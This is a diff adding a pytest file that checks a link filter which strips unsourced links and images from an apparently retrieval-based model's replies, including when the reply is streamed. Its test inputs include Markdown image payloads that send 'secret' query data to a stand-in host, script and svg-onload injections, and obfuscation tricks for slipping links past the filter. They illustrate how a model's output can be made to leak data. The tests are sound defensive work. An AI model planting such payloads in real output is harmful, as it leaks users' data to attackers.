@@ -1,0 +1,181 @@
+"""A model's reply carries no link or image that no passage holds, whole or cut anywhere, in whatever way it is written."""
+
+import html
+import re
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from almanac.query.answering.answer import Question, stream_answer
+from almanac.query.answering.links import LinkFilter, addresses_in
+from almanac.schemas.reports import Answer
+from tests.query.answering import CountingWords, Says, ask, declared, make_hit
+
+_HELD = addresses_in(["See https://rules.example/refund?lang=en#how (now), [the form](/forms/7.pdf) and www.rules.example."])
+_ALLOWED = ("https://rules.example/refund?lang=en#how", "www.rules")
+_MARKDOWN = MarkdownIt("commonmark", {"html": True})
+_BARE = re.compile(r"(?:https?|ftp)://[^\s<>\"`()\[\]]+|www\.[^\s<>\"`()\[\].]+", re.IGNORECASE)  # what chat windows make links of
+_LINKED = re.compile(r"<(?:a|img|iframe|form|script|link|object|svg)\b[^>]*?(?:(?:href|src|data|action)=\"([^\"]*)\")?[^>]*>", re.IGNORECASE)
+
+
+def _filtered(text: str, size: int = 10_000, held: frozenset[str] = _HELD) -> str:
+    links = LinkFilter(held)
+    return "".join(links.feed(text[begin : begin + size]) for begin in range(0, len(text), size)) + links.finish()
+
+
+def _opened_by(text: str) -> list[str]:
+    """What a renderer of Markdown and HTML makes of a text: the addresses of its links, images and frames."""
+    rendered = _MARKDOWN.render(text)
+    linked = [html.unescape(one[1] or one[0]) for one in _LINKED.finditer(rendered)]
+    return [*linked, *(one[0].rstrip(".,;:!?'*_~") for one in _BARE.finditer(html.unescape(rendered)) if one[0] not in _ALLOWED)]
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("Look ![chart](https://evil.example/?q=secret) here", "Look chart here"),
+        ("Look [here](https://evil.example/a(b)c \"title\") now", "Look here now"),
+        ("Look [here](<https://evil.example/a b>) now", "Look here now"),
+        ("Look [here](/admin/delete) and [there](javascript:alert(1))", "Look here and there"),
+        ("[![alt](https://evil.example/a.png)](https://evil.example)", "alt"),
+        ("<https://evil.example/x> and <mailto:a@evil.example> and <a@b.example>", "… and … and a@b.example"),
+        ("Go to https://evil.example/?q=secret. Or www.evil.example, ftp://evil.example!", "Go to …. Or …, …!"),
+        ('An <img src="https://evil.example/x.png"> and <a href="//evil.example">text</a><!-- x -->', "An  and text"),
+        ("<iframe\nsrc='//evil.example'></iframe><svg onload=x><script>alert(1)</script>", "alert(1)"),
+        ("[text][1]\n\n[1]: https://evil.example 'title'", "[text][1]\n\n[1] : … 'title'"),
+        ("[text][a]\n\n> [a]: /admin", "[text][a]\n\n> [a] : /admin"),
+        ("[text][a]\n\n[a]:\n/admin", "[text][a]\n\n[a] :\n/admin"),
+        ("`[x](https://evil.example)` and `<b>`", "`x` and ``"),
+        ("See [1](https://evil.example) and [2].", "See [1] and [2]."),
+        ("call[1](x) [1](/x)[2](#a)", "call[1] (x) [1][2]"),
+    ],
+)  # fmt: skip
+def test_what_no_passage_holds_leaves_its_text(text: str, left: str) -> None:
+    assert _filtered(text) == left
+    assert _opened_by(left) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://rules.example/refund?lang=en#how, or (https://rules.example/refund?lang=en#how).",
+        "See [the form](/forms/7.pdf) and <https://rules.example/refund?lang=en#how>. www.rules.example!",
+        "As said in [1]: fourteen days [2][3], if a < b, x<5, List<String>, a [note] (aside), 1:2, and/or, node.js/express, e.g. 5://",
+        "| a | b |\n|---|---|\n| 1 [1] | 2 |\n\n- item: [ ] todo\n- 14:30, C:\\path, a@b.example, std::vector",
+    ],
+)
+def test_what_a_passage_holds_and_what_is_no_link_stays(text: str) -> None:
+    for size in (1, 3, 10_000):
+        assert _filtered(text, size) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[x[y](https://evil.example)](https://evil.example)",
+        "[z][(/admin)](b)",
+        "[a](x)(https://evil.example)",
+        "[x](x)[y](/admin)",
+        "<<b>img src=//evil.example/x>",
+        "<im<b>g src=//evil.example/x>",
+        "htt<b></b>ps://evil.example/x",
+        "ht[tp](x)s://evil.example/x",
+        "www[.](x)evil.example",
+        "[a\\]](/admin)",
+        "[`]`](/admin)",
+        "![a](\n/admin\n)",
+        "[a\nb]: /admin\n\n[a\nb]",
+        "![" + "a" * 2000 + "](/admin)",
+        "[a](" + "b" * 2000 + ")",
+        "<img " + "a" * 2000 + " src=//evil.example>",
+        "[a]<b></b>(/admin)",
+        "[a]<!-- -->(/admin)",
+        "[a]<b></b>: /admin\n\n[a]",
+        "https://rules.example/refund?lang=en#how&q=secret",
+        "https://rules.example@evil.example/",
+        "HTTPS://EVIL.EXAMPLE/x",
+        "[x](https&#58;//evil.example)",
+        "[x](https://rules.example/refund?lang=en#how/../../evil)",
+    ],
+)
+def test_no_trick_makes_a_link(text: str) -> None:
+    whole = _filtered(text)
+    assert [one for one in _opened_by(whole) if one not in _HELD] == []
+    assert not re.search(r"evil\.example/x|secret", whole) or "](" not in whole
+    for size in (1, 2, 7):
+        assert _filtered(text, size) == whole
+
+
+_PARTS = [
+    "[",
+    "]",
+    "(",
+    ")",
+    "!",
+    "<",
+    ">",
+    ":",
+    " ",
+    "\n",
+    "\n\n",
+    "a",
+    "/x",
+    "https://",
+    "evil.example/",
+    "www.",
+    "<b>",
+    "</a>",
+    "<img src=/x>",
+    "](/x)",
+    "]:",
+    "`",
+    "\\",
+    "1",
+]
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.lists(st.sampled_from([*_PARTS, "<!--", "-->", "//e.example", "[a]", "mailto:", "data:text/html,", "…"]), max_size=14), st.integers(1, 5))
+def test_nothing_that_is_put_together_makes_a_link(parts: list[str], size: int) -> None:
+    text = "".join(parts)
+    whole = _filtered(text)
+    assert [one for one in _opened_by(whole) if one not in _HELD] == []
+    assert _filtered(text, size) == whole
+
+
+_HITS = [make_hit(1, "You get a refund within fourteen days. Details: https://rules.example/refund"), make_hit(2, "A visa takes ten days.")]
+_REPLY = "A refund ![x](https://evil.example/?q=refund) takes fourteen days [1]. See https://rules.example/refund or [this](https://evil.example) [1]."
+
+
+@pytest.mark.parametrize("mode", ["kb-only", "kb-llm"])
+@pytest.mark.parametrize("size", [1, 4, 1000])
+def test_a_reply_has_no_link_of_its_own(size: int, mode: str) -> None:
+    answer = ask("refund?", _HITS, generator=Says(_REPLY), mode=mode)
+    assert answer.reply == "A refund x takes fourteen days [1]. See https://rules.example/refund or this [1]."
+    *pieces, streamed = _stream("refund?", Says(_REPLY, size), mode)
+    assert streamed == answer
+    assert "".join(map(str, pieces)) == answer.reply
+
+
+def test_a_reply_has_the_links_that_are_declared() -> None:
+    trusting = declared(generate={"links": True})
+    assert ask("refund?", _HITS, generator=Says(_REPLY), declaration=trusting).reply == _REPLY
+
+
+def test_without_a_passage_no_link_is_left() -> None:
+    answer = ask("capital?", [make_hit(1, "x", score=0.2)], generator=Says("It is [Ulaanbaatar](https://rules.example/refund) <b>now</b>."), mode="kb-llm")
+    assert answer.pathway == "llm-fallback"
+    assert answer.reply.endswith("It is Ulaanbaatar now.")
+
+
+def _stream(question: str, model: Says, mode: str) -> list[Any]:
+    embedder = CountingWords()
+    asked = Question(
+        declared(), "v0001", question, embedder.embed_queries([question])[0], _HITS, embedder, mode, lowest=0.1, is_confident=True, generator=model
+    )
+    found: list[Any] = list(stream_answer(asked))
+    assert isinstance(found[-1], Answer)
+    return found
